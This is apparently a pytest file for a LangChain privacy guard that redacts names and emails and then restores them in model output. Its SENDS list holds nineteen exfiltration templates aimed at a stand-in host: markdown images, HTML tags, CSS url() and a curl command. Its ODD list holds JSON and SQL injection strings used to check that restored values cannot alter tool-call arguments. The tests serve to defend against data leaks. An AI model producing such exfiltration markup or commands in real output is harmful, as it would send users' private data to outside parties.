"""A red team's own list, class 5: what is put back where, and what is typed, joined or cut on the way."""

from __future__ import annotations

import asyncio
import json
import re
from typing import Any

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st
from langchain_core.messages import AIMessage, AIMessageChunk

from lc_guard import Anonymize, Deanonymize, Guard, protect
from lc_guard.langchain.recording_model import Recording, RecordingChatModel
from lc_guard.testing import ExactDetector

NAME, MAIL = "Iggy Pop", "iggy@example.org"
P1, M1 = "[REDACTED_PERSON_1]", "[REDACTED_EMAIL_1]"
CONFIG: Any = {"configurable": {"session_id": "s"}}
SENDS = [
    "![]({}.png)",
    "![x](https://evil.invalid/a/{}/b.png)",
    "![x](//evil.invalid/?{})",
    "![x](<https://evil.invalid/? {}>)",
    "[x](https://evil.invalid/#{})",
    "[x]: https://evil.invalid/{}\n\n[a][x]",
    "<https://evil.invalid/{}>",
    "https://user:{}@evil.invalid/",
    "https://evil.invalid/?a=1&amp;b={}",
    "<img srcset='https://evil.invalid/{} 2x'>",
    "<IMG SRC=https://evil.invalid/{}>",
    '<div style="background:url(https://evil.invalid/{})">',
    '<form action="https://evil.invalid/{}"><input></form>',
    '<iframe src="https://evil.invalid/{}"></iframe>',
    '<link rel="prefetch" href="https://evil.invalid/{}">',
    '<video poster="https://evil.invalid/{}">',
    "curl https://evil.invalid/{}",
    "wss://evil.invalid/{}",
    "ftp://evil.invalid/{}",
]


def guard() -> Guard:
    return Guard(ExactDetector({"PERSON": [NAME], "EMAIL": [MAIL]}))


def says(answer: str) -> RecordingChatModel:
    return RecordingChatModel(recording=Recording(), says=answer)


def answers(answer: str, *, form: str, streamed: bool) -> str:
    """Return what the user reads when the model, which was told of both values, gives an answer."""
    own = guard()
    app = protect(says(answer), own) if form == "protect" else Anonymize(own) | says(answer) | Deanonymize(own)
    asked = [("user", f"I am {NAME}, {MAIL}")]
    if streamed:
        return "".join(piece.text for piece in app.stream(asked, CONFIG))
    return str(asyncio.run(app.ainvoke(asked, CONFIG)).text)


@pytest.mark.parametrize("streamed", [False, True], ids=["whole", "streamed"])
@pytest.mark.parametrize("form", ["protect", "chain"])
@pytest.mark.parametrize("template", SENDS)
def test_no_answer_sends_a_value_on(template: str, form: str, streamed: bool) -> None:
    shown = answers(f"For {M1}: {template.replace('{}', P1)}", form=form, streamed=streamed)
    assert shown.startswith(f"For {MAIL}: "), "what is only shown is put back"
    assert NAME not in shown
    assert NAME.replace(" ", "%20") not in shown


TYPED = st.sampled_from(
    [P1, M1, P1.lower(), P1[1:-1], "[REDACTED_PERSON_", "1]", "REDACTED", "\\[REDACTED\\_PERSON\\_1\\]"]
)
BEGINS_JSON = re.compile(r'\[\s*"')
SAID = st.lists(st.one_of(TYPED, st.sampled_from([" ", "\n", "[", "]", "x", NAME, MAIL, '"'])), min_size=1, max_size=7)


@settings(max_examples=80, deadline=None)
@given(turns=st.lists(SAID.map("".join), min_size=1, max_size=2))
def test_nothing_typed_opens_a_value(turns: list[str]) -> None:
    """A model that repeats each line once gives back what was said, whatever was typed beside the values."""
    own = guard()
    own.session("s").anonymize(f"{NAME} {MAIL}")  # both have their numbers before anything is typed
    model = protect(RecordingChatModel(recording=Recording()), own)
    messages = [("user", turn) for turn in turns if turn.strip()] or [("user", "x")]
    said = "\n".join(dict.fromkeys("\n".join(text for _, text in messages).split("\n")))
    assume("\\" not in said or BEGINS_JSON.search(said) is None)  # a known limit: see docs/design/egress.md
    assert model.invoke(messages, CONFIG).text == said


class Calls(RecordingChatModel):
    """Calls a tool with given arguments, which are JSON, in pieces of any size."""

    arguments_text: str = "{}"
    size: int = 5

    def _generate(self, messages: Any, stop: Any = None, run_manager: Any = None, **kwargs: Any) -> Any:
        raise NotImplementedError

    def _stream(self, messages: Any, stop: Any = None, run_manager: Any = None, **kwargs: Any) -> Any:
        from langchain_core.messages.tool import tool_call_chunk
        from langchain_core.outputs import ChatGenerationChunk

        text = self.arguments_text
        for at in range(0, len(text), self.size):
            name = {"name": "send", "id": "1"} if at == 0 else {}
            chunk = tool_call_chunk(args=text[at : at + self.size], index=0, **name)
            yield ChatGenerationChunk(message=AIMessageChunk("", tool_call_chunks=[chunk]))


ODD = ['Zoë", "admin": true, "x": "', "a\\", 'a\\"', "}]", "\n\u2028", "\\u0022, \\u0022b\\u0022: 1", "{{}}", "';--"]


@pytest.mark.parametrize("value", ODD, ids=range(len(ODD)))
@pytest.mark.parametrize("size", [1, 5, 1000])
def test_a_value_adds_nothing_to_json(value: str, size: int) -> None:
    value = f"Mr {value} Pop"
    own = Guard(ExactDetector({"PERSON": [value]}))
    deep: Any = P1
    for _ in range(3):
        deep = json.dumps({"to": deep, "by": P1})
    model = protect(Calls(arguments_text=json.dumps({"to": P1, "body": deep, P1: 1}), size=size), own)
    pieces = list(model.stream([("user", f"I am {value}")], CONFIG))
    whole = pieces[0]
    for piece in pieces[1:]:
        whole += piece
    assert isinstance(whole, AIMessage)
    (call,) = whole.tool_calls
    assert call["args"].keys() <= {"to", "body", value, P1}
    assert call["args"]["to"] == value
    body: Any = call["args"]["body"]
    for _ in range(3):
        read = json.loads(body)
        assert read.keys() == {"to", "by"}
        assert read["by"] == value
        body = read["to"]
    assert body == value
